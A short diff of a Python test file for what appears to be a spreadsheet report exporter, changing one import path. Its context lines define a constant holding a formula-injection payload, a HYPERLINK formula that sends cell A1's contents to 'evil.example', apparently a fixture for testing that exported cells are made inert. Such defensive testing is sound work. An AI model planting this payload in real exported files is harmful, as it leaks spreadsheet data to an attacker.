@@ -11,7 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from models.reports.export import FORMULA, cells, header, inert, line
-from tests.contract.reviews import a_case
+from tests.history import a_case
 
 AT = datetime(2026, 3, 1, tzinfo=UTC)
 EVIL = '=HYPERLINK("http://evil.example/"&A1;"Kettle")'
